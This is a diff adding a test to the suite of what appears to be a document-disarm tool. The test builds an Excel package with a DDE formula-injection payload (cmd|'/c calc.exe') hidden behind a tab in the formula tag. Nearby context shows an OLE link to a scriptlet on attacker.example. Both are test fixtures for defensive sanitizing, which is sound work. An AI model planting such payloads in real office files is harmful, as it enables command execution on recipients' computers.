@@ -166,6 +166,55 @@ describe('OOXML rebuild', () => {
     expect(text).toContain('<definedName name="Total">');
   });
 
+  it('screens formulas under any prefix and spelling of the tag, skipping sheets without one', async () => {
+    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const sheet = (cells: string): string =>
+      `<x:worksheet xmlns:x="${S}"><x:sheetData><x:row r="1">${cells}</x:row></x:sheetData></x:worksheet>`;
+    const workbook = (sheets: number): string =>
+      `<x:workbook xmlns:x="${S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><x:sheets>${Array.from({ length: sheets }, (_, i) => `<x:sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</x:sheets></x:workbook>`;
+    const worksheetType =
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'xl/workbook.xml',
+          contentType: OOXML_MAIN_TYPES.xlsx,
+          data: workbook(3),
+          relationships: [1, 2, 3].map((n) => ({
+            id: `rId${n}`,
+            type: RELATIONSHIP_TYPES.worksheet,
+            target: `worksheets/sheet${n}.xml`,
+          })),
+        },
+        {
+          name: 'xl/worksheets/sheet1.xml',
+          contentType: worksheetType,
+          // A tab after the name, as some writers put it.
+          data: sheet(`<x:c r="A1" t="str"><x:f\t>cmd|'/c calc.exe'!A0</x:f><x:v>0</x:v></x:c>`),
+        },
+        {
+          name: 'xl/worksheets/sheet2.xml',
+          contentType: worksheetType,
+          data: sheet(`<x:c r="A1"><x:f>SUM(1,2)</x:f><x:v>3</x:v></x:c>`),
+        },
+        {
+          name: 'xl/worksheets/sheet3.xml',
+          contentType: worksheetType,
+          data: sheet(
+            '<x:c r="A1" t="inlineStr"><x:is><x:t>plain text, no formula</x:t></x:is></x:c>',
+          ),
+        },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
+    expect(findingsOf(outcome)).toEqual({ 'dde-link': 1 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toContain('cmd|');
+    expect(text).toContain('<x:f>SUM(1,2)</x:f>');
+    expect(text).toContain('plain text, no formula');
+  });
+
   it('removes OLE frames and macro actions from PowerPoint, keeping the slide text', async () => {
     const input = await buildPresentation('ppsx', {
       externalOle: 'script:http://attacker.example/x.sct',
